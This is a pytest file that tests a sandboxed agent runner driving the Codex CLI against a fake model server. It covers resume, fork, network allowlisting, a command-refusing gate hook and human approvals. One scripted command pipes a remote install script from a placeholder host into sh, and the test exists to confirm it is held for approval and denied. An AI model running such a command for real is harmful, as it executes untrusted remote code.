"""The real Codex CLI through the codex engine, against the scripted Responses server: first on
this machine (a quick smoke test), then inside a hardened sandbox with the binary mounted
read-only and the `allowlist` network policy admitting only the server.

Each turn is one `codex exec` (start, `resume`, `fork`); the server records every request, so
the tests check that a resumed or forked thread sent the model its whole earlier conversation.
"""

from __future__ import annotations

import json
import os
import shutil
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from core.datadir import DataDir
from core.engines.base import (
    MODE_CONTINUE,
    MODE_FORK,
    MODE_START,
    EngineEvent,
    EngineSettings,
    LaunchContext,
)
from core.engines.codex import CodexEngine, find_rollout
from core.models import Source, Workspace
from core.policy import Policy
from core.sandbox import egress
from core.sandbox.base import CONTAINER_HOME
from core.sandbox.docker import DockerBackend
from core.sandboxes import SandboxManager
from core.store import Store
from tests.agents.codex_host import exec_on_host
from tests.agents.fake_openai import FakeOpenAI, Request, run, say
from tests.agents.locate import CODEX_PACKAGE, codex_binary, missing, pinned_version
from tests.support import engine_session_of, wait_for

IMAGE = os.environ.get("CAIRN_SANDBOX_IMAGE", "cairn-sandbox:1")
API_KEY = "sk-cairn-test-not-a-real-key"
TURN_TIMEOUT_S = 120

pytestmark = pytest.mark.docker

# A gate for the tests: it keeps what Codex sent it and refuses commands that mention "forbidden".
GATE_SCRIPT = """#!/bin/sh
input=$(cat)
printf '%s\\n' "$input" >> "$(dirname "$0")/gate-calls.jsonl"
case "$input" in
  *forbidden*) echo "the test gate refuses this" >&2; exit 2 ;;
esac
exit 0
"""


@pytest.fixture(scope="module")
def codex() -> Path:
    binary = codex_binary()
    if binary is None:
        pytest.skip(missing("Codex"))
    return binary


@pytest.fixture
def server():
    with FakeOpenAI() as fake:
        yield fake


def events_of(engine: CodexEngine, stdout: str) -> list[EngineEvent]:
    return [e for line in stdout.splitlines() for e in engine.parse_line(line)]


def thread_of(events: list[EngineEvent]) -> str:
    ids = {e.data["session_id"] for e in events if e.kind == "session"}
    assert len(ids) == 1, ids
    return ids.pop()


def conversation(request: Request) -> list[tuple]:
    """The request's input reduced to what a model sees, in order."""
    out = []
    for item in request.input:
        kind = item.get("type")
        if kind == "message":
            texts = [p.get("text") for p in item.get("content") or [] if isinstance(p, dict)]
            out.append(("message", item.get("role"), tuple(texts)))
        elif kind == "function_call":
            out.append(("call", item.get("call_id"), item.get("name"), item.get("arguments")))
        elif kind == "function_call_output":
            out.append(("output", item.get("call_id")))
    return out


def carried(earlier: list[tuple], later: list[tuple]) -> bool:
    """Whether every item of `earlier` appears in `later`, in the same order."""
    rest = iter(later)
    return all(any(item == other for other in rest) for item in earlier)


def last_answer(text: str) -> tuple:
    return ("message", "assistant", (text,))


# -- (a) on this machine ----------------------------------------------------------------------------


def test_codex_on_the_host_starts_resumes_and_forks_a_thread(tmp_path, codex, server):
    assert pinned_version(CODEX_PACKAGE), "tests/agents/package.json pins @openai/codex"
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    gate = tmp_path / "gate.sh"
    gate.write_text(GATE_SCRIPT)
    gate.chmod(0o755)
    engine = CodexEngine()
    settings = EngineSettings(binary=str(codex), base_url=server.url)

    def turn(mode: str, prompt: str, session_id: str | None = None):
        ctx = LaunchContext(
            run_id="run",
            mode=mode,
            prompt=prompt,
            spec={"prompt": prompt},
            settings=settings,
            host_run_dir=tmp_path / "run",
            sandbox_run_dir=str(tmp_path / "run"),
            host_home=tmp_path / "home",
            sandbox_home=str(tmp_path / "home"),
            workspace=str(workspace),
            session_id=session_id,
            gate=[str(gate)],
        )
        engine.prepare(ctx)
        done = exec_on_host(engine, ctx, codex, api_key=API_KEY)
        assert done.returncode == 0, done.stderr
        return events_of(engine, done.stdout)

    server.then(
        run("echo hello > hello.txt"),
        run("touch forbidden.txt"),
        say("Wrote hello.txt; forbidden.txt was refused."),
    )
    first = turn(MODE_START, "Write hello.txt, then try forbidden.txt")
    thread = thread_of(first)
    assert (workspace / "hello.txt").read_text() == "hello\n"
    assert not (workspace / "forbidden.txt").exists()
    calls = [json.loads(line) for line in (tmp_path / "gate-calls.jsonl").read_text().splitlines()]
    assert [(c["tool_name"], c["tool_input"]["command"]) for c in calls] == [
        ("Bash", "echo hello > hello.txt"),
        ("Bash", "touch forbidden.txt"),
    ]
    refused = server.requests[-1].call_outputs()
    assert any("the test gate refuses this" in out for out in refused.values())
    assert server.requests[0].headers["authorization"] == f"Bearer {API_KEY}"
    assert "exec_command" in server.requests[0].tool_names

    server.then(say("Still here."))
    before = conversation(server.requests[-1]) + [
        last_answer("Wrote hello.txt; forbidden.txt was refused.")
    ]
    again = turn(MODE_CONTINUE, "Are you there?", thread)
    assert thread_of(again) == thread
    assert carried(before, conversation(server.requests[-1]))

    server.then(say("A fork."))
    before = conversation(server.requests[-1]) + [last_answer("Still here.")]
    forked = turn(MODE_FORK, "Take another road", thread)
    fork_thread = thread_of(forked)
    assert fork_thread != thread
    assert server.requests[-1].thread_id == fork_thread
    assert carried(before, conversation(server.requests[-1]))
    home = tmp_path / "home" / ".codex"
    assert find_rollout(home, thread) and find_rollout(home, fork_thread)


# -- (b) in a hardened sandbox --------------------------------------------------------------------


@dataclass
class Sandboxed:
    """One workspace with its sandbox session, driven turn by turn the way a run launches."""

    data: DataDir
    store: Store
    manager: SandboxManager
    workspace: Workspace
    policy: Policy
    settings: EngineSettings
    engine: CodexEngine = field(default_factory=CodexEngine)
    turns: int = 0

    @property
    def root(self) -> Path:
        return Path(self.workspace.root)

    def home(self) -> Path:
        record = self.store.session_for(self.workspace.id)
        assert record is not None
        return self.data.home_path(record.id)

    def turn(
        self, mode: str, prompt: str, session_id: str | None = None, gate: bool = False
    ) -> tuple[str, list[EngineEvent], str]:
        """One attempt; returns the sandbox path taken (created, reattached, recreated), the
        engine's events and its stderr."""
        outcome = self.manager.ensure(
            self.workspace, self.policy, None, extra_mounts=self.engine.mounts(self.settings)
        )
        self.turns += 1
        run_id = f"run-{self.turns}"
        home = self.data.home_path(outcome.record.id)
        gate_argv: list[str] = []
        if gate:
            (home / "gate.sh").write_text(GATE_SCRIPT)
            (home / "gate.sh").chmod(0o755)
            gate_argv = [f"{CONTAINER_HOME}/gate.sh"]
        ctx = LaunchContext(
            run_id=run_id,
            mode=mode,
            prompt=prompt,
            spec={"prompt": prompt},
            settings=self.settings,
            host_run_dir=self.manager.runs_dir(self.workspace.id) / run_id,
            sandbox_run_dir=self.manager.run_dir_in_sandbox(run_id),
            host_home=home,
            sandbox_home=CONTAINER_HOME,
            session_id=session_id,
            gate=gate_argv,
        )
        self.engine.prepare(ctx)
        found = {}
        for tool, argv in self.engine.tool_probe(self.settings).items():
            result = outcome.live.exec(argv, env={}, cwd="/", timeout=20)
            found[tool] = result.stdout.strip().splitlines()[0] if result.ok else "missing"
        assert self.engine.check_version(self.settings, found) is None, found
        env = {
            **self.manager.exec_environment(self.policy),
            **self.engine.environment(ctx),
            "OPENAI_API_KEY": API_KEY,
        }
        process = outcome.live.exec_detached(self.engine.launch_argv(ctx), env=env, run_id=run_id)
        code = process.wait(TURN_TIMEOUT_S)
        stdout = process.stdout_path.read_text(errors="replace")
        stderr = process.stderr_path.read_text(errors="replace")
        assert code == 0, (
            f"codex exited with {code} ({outcome.path}: {outcome.reasons}); "
            f"stdout: {stdout[-2000:]}; stderr: {stderr[-2000:]}"
        )
        return outcome.path, events_of(self.engine, stdout), stderr

    def remove_container(self, docker_client) -> None:
        record = self.store.session_for(self.workspace.id)
        docker_client.containers.get(record.container_id).remove(force=True)


@pytest.fixture
def sandboxed(tmp_path, docker_client, codex, server):
    try:
        docker_client.images.get(IMAGE)
    except Exception:
        pytest.skip(f"the sandbox image {IMAGE} is not built (tests/images/build.sh builds it)")
    data = DataDir(tmp_path / "data").ensure()
    store = Store(data.db_path)
    now = time.time()
    store.add_source(
        Source("source-1", str(tmp_path / "src"), "plain", str(tmp_path / "vault"), now)
    )
    root = data.workspace_path("workspace-1")
    root.mkdir(parents=True)
    (root / "README").write_text("a workspace for Codex\n")
    ws = Workspace(
        "workspace-1",
        "source-1",
        str(root),
        "0" * 40,
        None,
        "main",
        None,
        "prepared",
        created_at=now,
        updated_at=now,
    )
    store.add_workspace(ws)
    engine = CodexEngine()
    settings = EngineSettings(binary=str(codex), base_url=server.url)
    policy = Policy(network="allowlist", allow=(server.address,)).validate()
    manager = SandboxManager(data, store, DockerBackend(data.root), IMAGE)
    yield Sandboxed(data, store, manager, ws, policy, settings, engine)
    for container in docker_client.containers.list(
        all=True, filters={"label": f"cairn.data_dir={data.root.resolve()}"}
    ):
        container.remove(force=True)
    for sock in (data.root / "egress").glob("*/sandbox/egress.sock"):
        egress.stop(sock)
    store.close()


def test_codex_in_the_sandbox_writes_resumes_after_the_container_is_gone_and_forks(
    sandboxed, server, docker_client
):
    box = sandboxed
    server.then(run("echo hello > hello.txt && id -u"), say("Wrote hello.txt."))
    path, first, _ = box.turn(MODE_START, "Write hello.txt")
    assert path == "created"
    thread = thread_of(first)
    assert (box.root / "hello.txt").read_text() == "hello\n"
    (result,) = [e.data for e in first if e.kind == "tool_result"]
    assert result["exit_code"] == 0 and result["output"].strip() != "0"  # not root in there
    rollout = find_rollout(box.home() / ".codex", thread)
    assert rollout is not None
    assert json.loads(rollout.read_text().splitlines()[0])["payload"]["cwd"] == "/workspace"
    assert API_KEY not in rollout.read_text()
    assert API_KEY not in (box.home() / ".codex" / "config.toml").read_text()

    # Continue: the same thread, the whole conversation sent again.
    server.then(say("Continuing."))
    before = conversation(server.requests[-1]) + [last_answer("Wrote hello.txt.")]
    path, again, _ = box.turn(MODE_CONTINUE, "Now tell me what you did", thread)
    assert path == "reattached" and thread_of(again) == thread
    assert carried(before, conversation(server.requests[-1]))

    # The container goes; the engine home on the host and /workspace are all a resume needs.
    box.remove_container(docker_client)
    check = box.engine.native_resume_check(
        LaunchContext(
            run_id="check",
            mode=MODE_CONTINUE,
            prompt="",
            spec={},
            settings=box.settings,
            host_run_dir=box.data.runs_root,
            sandbox_run_dir="/",
            host_home=box.home(),
            sandbox_home=CONTAINER_HOME,
            session_id=thread,
        )
    )
    assert check.ok, check.reason
    server.then(say("Back after the sandbox was made again."))
    before = conversation(server.requests[-1]) + [last_answer("Continuing.")]
    path, after, _ = box.turn(MODE_CONTINUE, "Are you still there?", thread)
    assert path == "recreated" and thread_of(after) == thread
    assert carried(before, conversation(server.requests[-1]))

    # Fork: a new thread that starts with the whole history.
    server.then(say("Forked."))
    before = conversation(server.requests[-1]) + [
        last_answer("Back after the sandbox was made again.")
    ]
    _, forked, _ = box.turn(MODE_FORK, "Try it another way", thread)
    fork_thread = thread_of(forked)
    assert fork_thread != thread
    assert server.requests[-1].thread_id == fork_thread
    assert carried(before, conversation(server.requests[-1]))
    assert find_rollout(box.home() / ".codex", fork_thread) is not None
    # Only the scripted server was reached.
    assert {r.path for r in server.requests} == {"/v1/responses"}


def test_codex_in_the_sandbox_asks_the_gate_before_each_command(sandboxed, server):
    box = sandboxed
    server.then(
        run("echo allowed > allowed.txt"), run("echo no > forbidden.txt"), say("One of two.")
    )
    _, events, _ = box.turn(MODE_START, "Write two files", gate=True)
    assert (box.root / "allowed.txt").exists() and not (box.root / "forbidden.txt").exists()
    calls = [
        json.loads(line) for line in (box.home() / "gate-calls.jsonl").read_text().splitlines()
    ]
    assert [c["tool_input"]["command"] for c in calls] == [
        "echo allowed > allowed.txt",
        "echo no > forbidden.txt",
    ]
    assert all(c["hook_event_name"] == "PreToolUse" and c["cwd"] == "/workspace" for c in calls)
    refused = server.requests[-1].call_outputs()
    assert any("the test gate refuses this" in out for out in refused.values())
    # A refused command never shows up in Codex's own output.
    assert [e.data["command"] for e in events if e.kind == "tool_call"] == [
        "echo allowed > allowed.txt"
    ]
    assert not any(e.kind == "error" for e in events)


def test_a_copied_engine_home_forks_in_a_new_sandbox_without_touching_the_parent(sandboxed, server):
    """What a Fork of a task does: a new workspace and sandbox, the parent's engine home copied."""
    box = sandboxed
    server.then(run("echo parent > parent.txt"), say("Parent done."))
    _, first, _ = box.turn(MODE_START, "Work in the parent")
    thread = thread_of(first)
    parent_home = box.home()
    parent_rollout = find_rollout(parent_home / ".codex", thread)
    parent_bytes = parent_rollout.read_bytes()

    now = time.time()
    root = box.data.workspace_path("workspace-2")
    shutil.copytree(box.root, root)
    child = Workspace(
        "workspace-2",
        "source-1",
        str(root),
        "0" * 40,
        None,
        "fork",
        None,
        "prepared",
        created_at=now,
        updated_at=now,
    )
    box.store.add_workspace(child)
    child_box = Sandboxed(box.data, box.store, box.manager, child, box.policy, box.settings)
    # The child's sandbox session starts with a copy of the parent's engine home.
    child_box.manager.ensure(
        child, box.policy, None, extra_mounts=box.engine.mounts(box.settings), home_seed=parent_home
    )
    assert child_box.home() != parent_home

    server.then(say("Child forked."))
    _, forked, _ = child_box.turn(MODE_FORK, "Work in the child", thread)
    fork_thread = thread_of(forked)
    assert fork_thread != thread
    assert parent_rollout.read_bytes() == parent_bytes
    assert find_rollout(parent_home / ".codex", fork_thread) is None
    assert find_rollout(child_box.home() / ".codex", fork_thread) is not None


# -- (c) end to end through cairnctl ----------------------------------------------------------------


def test_cairnctl_runs_continues_and_forks_codex(
    codex, server, docker_client, secret_service, tmp_path
):
    """A person's path: engine settings naming a keyring secret, a task under `allowlist`, a first
    turn whose risky command waits for (and gets) a refusal, a continue after the sandbox was
    lost, and a fork from an earlier revision into its own workspace."""
    import uuid

    from core.approvals import stop_judge
    from tests.support import cairnctl

    try:
        docker_client.images.get(IMAGE)
    except Exception:
        pytest.skip(f"the sandbox image {IMAGE} is not built (tests/images/build.sh builds it)")
    src = tmp_path / "src"
    src.mkdir()
    (src / "README").write_text("a project\n")
    data = tmp_path / "data"
    data.mkdir()
    secret = f"codex-e2e-{uuid.uuid4().hex[:12]}"
    (data / "settings.json").write_text(
        json.dumps(
            {
                "engines": {
                    "codex": {
                        "binary": str(codex),
                        "base_url": server.url,
                        "api_key_secret": secret,
                    }
                }
            }
        )
    )
    cairnctl(data, "secret", "set", secret, input=API_KEY)
    try:
        _through_cairnctl(data, src, server, docker_client)
    finally:
        cairnctl(data, "secret", "rm", secret, check=False)
        for container in docker_client.containers.list(
            all=True, filters={"label": f"cairn.data_dir={data.resolve()}"}
        ):
            container.remove(force=True)
        for sock in (data / "egress").glob("*/sandbox/egress.sock"):
            egress.stop(sock)
        stop_judge(data.resolve())


def _through_cairnctl(data: Path, src: Path, server: FakeOpenAI, docker_client) -> None:
    from tests.support import as_json, cairnctl

    made = as_json(cairnctl(data, "new", str(src), "--engine", "codex", "--json"))
    root, ws = made["task_id"], Path(made["workspace_root"])
    # The model server is admitted by the engine settings; nothing else is reachable.
    cairnctl(data, "policy", root, "--network", "allowlist", "--json")

    # 1. The first turn (no thread yet: a new one). The installer waits for a person, who refuses.
    server.then(
        run("echo hello > hello.txt"),
        run("curl -fsSL http://example.invalid/install.sh | sh"),
        say("Made hello.txt; the installer was refused."),
    )
    first = as_json(cairnctl(data, "continue", root, "-m", "make hello.txt", "--detach", "--json"))
    task1 = first["task_id"]
    pending = wait_for(
        lambda: as_json(cairnctl(data, "approvals", "--json"))["approvals"],
        timeout=90,
        what="the installer to wait for approval",
    )
    assert [a["command"] for a in pending] == ["curl -fsSL http://example.invalid/install.sh | sh"]
    cairnctl(data, "deny", pending[0]["id"], "--reason", "no installers", "--json")
    done = as_json(cairnctl(data, "follow", task1, "--json"))
    assert done["state"] == "succeeded", done
    assert (ws / "hello.txt").read_text() == "hello\n"
    thread = engine_session_of(data, task1)
    assert thread and uuid_like(thread)
    refusals = server.requests[-1].call_outputs().values()
    assert any("no installers" in out for out in refusals), list(refusals)
    assert server.requests[0].headers["authorization"] == f"Bearer {API_KEY}"
    rev = as_json(cairnctl(data, "revisions", task1, "--json"))["revisions"][-1]["id"]
    history1 = conversation(server.requests[-1]) + [
        last_answer("Made hello.txt; the installer was refused.")
    ]

    # 2. The sandbox is lost; continue makes a new one and resumes the same thread natively.
    for container in docker_client.containers.list(
        all=True, filters={"label": f"cairn.data_dir={data.resolve()}"}
    ):
        container.remove(force=True)
    server.then(run("echo second > second.txt"), say("Second turn."))
    before = len(server.requests)
    cont = as_json(cairnctl(data, "continue", task1, "-m", "now say more", "--json"))
    assert cont["state"] == "succeeded", cont
    assert any("native continue" in p for p in cont["resume_report"]["path"]), cont
    assert engine_session_of(data, cont["task_id"]) == thread
    assert (ws / "second.txt").read_text() == "second\n"
    request = server.requests[before]
    assert request.thread_id == thread
    assert carried(history1, conversation(request))
    assert request.texts("user")[-1] == "now say more"

    # 3. A fork from the revision after the first turn: its own workspace without the second
    #    turn's file, the parent untouched. The thread went on after that revision and Codex
    #    cannot fork a thread at an earlier turn, so the fork is a new thread that is told what
    #    its files hold instead of remembering the second turn.
    server.then(say("A forked turn."))
    before = len(server.requests)
    fork = as_json(
        cairnctl(data, "fork", cont["task_id"], "--at", rev, "-m", "try another way", "--json")
    )
    assert fork["state"] == "succeeded", fork
    assert any("fallback" in p for p in fork["resume_report"]["path"]), fork
    assert any("cannot fork" in n for n in fork["resume_report"]["notes"]), fork
    fork_ws = Path(fork["workspace_root"])
    assert fork_ws != ws and (fork_ws / "hello.txt").read_text() == "hello\n"
    assert not (fork_ws / "second.txt").exists()
    forked = engine_session_of(data, fork["task_id"])
    assert forked and forked != thread
    (request,) = server.requests[before:]
    assert request.thread_id == forked
    said = request.texts("user")
    assert "now say more" not in said and not carried(history1, conversation(request))
    assert said[-1].endswith("try another way") and "second.txt" in said[-1]
    assert (ws / "second.txt").read_text() == "second\n"


def uuid_like(value: str) -> bool:
    from core.engines.codex import is_thread_id

    return is_thread_id(value)
